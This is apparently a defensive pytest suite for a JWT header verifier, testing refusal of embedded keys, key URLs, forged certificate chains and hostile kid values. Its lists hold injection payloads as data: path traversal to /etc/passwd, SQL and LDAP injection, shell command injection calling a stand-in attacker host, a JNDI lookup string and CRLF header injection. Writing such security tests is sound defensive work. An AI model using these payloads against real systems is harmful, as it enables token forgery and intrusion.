"""Family HDR: what the header of a token may say, and what nobody follows."""

import socket
from base64 import b64encode
from typing import Final

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from judging import (
    KID,
    decide,
    guard_for,
    guard_with,
    honest,
    new_signer,
    signer_for,
    verdict,
)
from portvakt.jose.header import MAX_KID
from portvakt.refusal import Code

GUARD: Final = guard_for("ES256")
STRANGER: Final = new_signer("ES256", "stranger")
URLS: Final = (
    "https://attacker.test/jwks.json",
    "https://issuer.test@attacker.test/jwks.json",
    "https://issuer.test.attacker.test/jwks.json",
    "https://issuer.test/redirect?to=https://attacker.test",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
)


@pytest.mark.twin(*(f"HDR-{n:02}" for n in range(1, 22)))
def test_honest_header_is_admitted() -> None:
    assert verdict(GUARD, honest().build()) is None


@pytest.mark.attack("HDR-01")
@pytest.mark.parametrize("kid", [KID, "stranger", None])
def test_token_that_brings_its_own_key_is_refused(kid: str | None) -> None:
    forged = honest().signed_by(STRANGER).header(jwk=STRANGER.public_jwk())
    forged = forged.header(kid=kid) if kid else forged.without_header("kid")
    assert verdict(GUARD, forged.build()) is Code.HEADER_FORBIDDEN
    assert verdict(GUARD, honest().header(jwk=signer_for("ES256").public_jwk()).build()) is (
        Code.HEADER_FORBIDDEN
    )


@pytest.mark.attack("HDR-02", "HDR-03", "HDR-20")
@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("name", ["jku", "x5u"])
def test_token_that_points_to_a_key_is_refused(name: str, url: str) -> None:
    forged = honest().signed_by(STRANGER).header(**{name: url}).build()
    assert verdict(GUARD, forged) is Code.HEADER_FORBIDDEN
    assert verdict(GUARD, honest().header(**{name: url}).build()) is Code.HEADER_FORBIDDEN


def chain() -> list[str]:
    key = STRANGER.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return [b64encode(key).decode()]


@pytest.mark.attack("HDR-04")
@pytest.mark.parametrize("kid", [KID, "stranger"])
def test_certificate_of_a_forger_is_not_believed(kid: str) -> None:
    forged = honest().signed_by(STRANGER).header(x5c=chain(), kid=kid)
    expected = Code.SIGNATURE_INVALID if kid == KID else Code.KEY_UNKNOWN
    assert verdict(GUARD, forged.build()) is expected


@pytest.mark.twin("HDR-04")
def test_certificate_of_an_issuer_is_ignored() -> None:
    header = {"x5c": chain(), "x5t": "AAAA", "x5t#S256": "AAAA"}
    assert verdict(GUARD, honest().header(**header).build()) is None


KIDS: Final = (
    # a path
    "../../../../dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "/invalid_path",
    "..\\..\\windows\\win.ini",
    "key-1/../key-1",
    "./key-1",
    # a query
    "x' UNION SELECT 'key-1';--",
    "' OR '1'='1",
    "*)(uid=*))(|(uid=*",
    '{"$ne":null}',
    # a command, a log line, a header
    "key-1|sleep 10",
    "| curl https://attacker.test",
    "$(id)",
    "`id`",
    "key-1\r\nX-Admin: true",
    "key-1\x1b[2J",
    "${jndi:ldap://attacker.test/a}",
    "{{7*7}}",
    "%s%n",
    # a part of a URL
    "../../jwks?",
    "@attacker.test/",
    "%2f%2fattacker.test",
    "?kid=key-1",
    "#key-1",
    "https://attacker.test/key-1",
)


@pytest.mark.attack("HDR-05", "HDR-06", "HDR-07", "HDR-21")
@pytest.mark.parametrize("kid", KIDS)
def test_kid_is_a_name_and_nothing_else(kid: str) -> None:
    assert verdict(GUARD, honest().header(kid=kid).build()) is Code.KEY_UNKNOWN
    decision = decide(GUARD, honest().header(kid=kid).build())
    assert kid not in f"{decision.refusal} {decision.response}"


@pytest.mark.twin("HDR-05", "HDR-06", "HDR-07", "HDR-21")
@pytest.mark.parametrize("kid", KIDS)
def test_kid_may_be_any_name_that_the_issuer_gives(kid: str) -> None:
    guard = guard_with({**signer_for("ES256").public_jwk(), "kid": kid}, algorithms=("ES256",))
    assert verdict(guard, honest().header(kid=kid).build()) is None


@pytest.mark.attack("HDR-05")
def test_empty_kid_is_refused() -> None:
    assert verdict(GUARD, honest().header(kid="").build()) is Code.HEADER_PARAMETER


@pytest.mark.attack("HDR-08", "HDR-19")
def test_giant_kid_is_refused() -> None:
    for length in (MAX_KID + 1, 2000):
        token = honest().header(kid="k" * length).build()
        assert verdict(GUARD, token) is Code.HEADER_PARAMETER
    assert verdict(GUARD, honest().header(kid="k" * 4000).build()) is Code.HEADER_TOO_LONG
    assert verdict(GUARD, honest().header(kid="k" * 1_000_000).build()) is Code.TOKEN_TOO_LONG


@pytest.mark.attack("HDR-08")
def test_a_new_kid_each_time_leaves_nothing_behind() -> None:
    guard = guard_with(signer_for("ES256").public_jwk(), algorithms=("ES256",))
    for number in range(1000):
        assert verdict(guard, honest().header(kid=f"kid-{number}").build()) is Code.KEY_UNKNOWN
    assert not guard._known_headers
    assert verdict(guard, honest().build()) is None


@pytest.mark.twin("HDR-08")
def test_kid_of_the_greatest_length_is_admitted() -> None:
    kid = "k" * MAX_KID
    guard = guard_with({**signer_for("ES256").public_jwk(), "kid": kid}, algorithms=("ES256",))
    assert verdict(guard, honest().header(kid=kid).build()) is None


@pytest.mark.attack("HDR-20", "HDR-21", "CLM-17")
@pytest.mark.parametrize("url", URLS)
def test_no_url_in_a_token_is_ever_fetched(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, lambda *args, **_: asked.append(args))
    monkeypatch.setattr(socket.socket, "connect", lambda *args: asked.append(args))
    names = ("kid", "jku", "x5u", "iss", "typ", "cty", "alg", "x5t", "jwks_uri", "url")
    tokens = [honest().header(**{name: url}).build() for name in names]
    claims = ("iss", "aud", "sub", "jti", "client_id", "scope", "jku", "jwks_uri", "picture", "cnf")
    tokens += [honest().claims(**{name: url}).build() for name in claims]
    tokens.append(honest().claims(**dict.fromkeys(claims, url)).header(kid=url).build())
    codes = {verdict(GUARD, token) for token in tokens}
    assert not asked
    # Ignored, they change nothing; anywhere else they refuse.
    assert None in codes
    assert {Code.HEADER_FORBIDDEN, Code.KEY_UNKNOWN, Code.ISSUER_UNKNOWN} <= codes
